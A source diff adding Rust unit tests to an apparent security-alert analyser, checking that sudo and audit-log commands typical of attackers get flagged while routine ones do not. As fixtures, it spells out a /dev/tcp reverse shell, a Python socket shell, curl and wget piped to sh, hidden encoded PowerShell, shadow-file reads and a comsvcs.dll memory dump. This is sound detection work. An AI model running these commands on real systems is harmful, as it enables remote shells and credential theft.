@@ -113,3 +113,67 @@ fn audited(alert: &Alert) -> Option<String> {
     }
     (!line.is_empty()).then(|| template::head(&line, COMMAND_BYTES_MAX).to_owned())
 }
+
+#[cfg(test)]
+mod tests {
+    use alert::{Alert, Limits};
+    use serde_json::{Value, json};
+
+    use crate::observe::observe;
+
+    fn sudo(command: &str) -> Value {
+        json!({
+            "rule": {"id": "5402", "level": 3, "description": "run as root", "groups": ["syslog", "sudo"]},
+            "agent": {"id": "1", "name": "a"}, "decoder": {"name": "sudo"},
+            "data": {"srcuser": "bob", "dstuser": "root", "command": command},
+        })
+    }
+
+    /// Gives the behaviour of an alert, and why its command is telling.
+    fn told(alert: &Value) -> (String, Option<String>) {
+        let alert = Alert::parse(alert.to_string().as_bytes(), &Limits::default());
+        let seen = observe(&alert.expect("an alert"));
+        (seen.behaviour, seen.finding.map(|finding| finding.reason))
+    }
+
+    #[test]
+    fn commands_of_attackers_are_told_from_those_of_every_day() {
+        for command in [
+            "/usr/bin/cat /etc/shadow",
+            "/usr/bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/9 0>&1'",
+            "/usr/bin/python3 -c import socket,os;s=socket.socket();s.connect(('h',9));os.dup2(s.fileno(),0)",
+            "/bin/sh -c curl -s http://198.51.100.7/a | sh",
+            "powershell.exe -nop -w hidden -enc SQBFAFgA",
+            "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full",
+        ] {
+            let (behaviour, reason) = told(&sudo(command));
+            let reason = reason.unwrap_or_else(|| panic!("{command}"));
+            assert_eq!(behaviour, format!("5402\n{reason}"), "{command}");
+        }
+        for command in [
+            "/usr/bin/cat /etc/hosts",
+            "/usr/bin/curl -sO https://example.org/a.tar.gz",
+            "/usr/bin/tar czf /srv/backup.tgz /etc",
+            "powershell.exe -ExecutionPolicy Bypass -File C:\\install.ps1",
+            "/usr/bin/rsync -e ssh a b",
+        ] {
+            assert_eq!(told(&sudo(command)), ("5402".to_owned(), None), "{command}");
+        }
+    }
+
+    #[test]
+    fn what_the_audit_log_has_in_pieces_is_one_command_and_a_request_is_none() {
+        let audited = json!({
+            "rule": {"id": "80792", "level": 3, "description": "a command", "groups": ["audit", "audit_command"]},
+            "agent": {"id": "1", "name": "a"},
+            "data": {"audit": {"exe": "/usr/bin/bash", "execve": {"a0": "sh", "a1": "-c", "a2": "wget -qO- http://h/x |sh"}}},
+        });
+        assert!(told(&audited).1.is_some());
+        let request = json!({
+            "rule": {"id": "31101", "level": 5, "description": "x", "groups": ["web"]},
+            "agent": {"id": "1", "name": "a"},
+            "data": {"srcip": "192.0.2.1", "url": "/", "id": "404", "command": "cat /etc/shadow"},
+        });
+        assert_eq!(told(&request).1, None);
+    }
+}
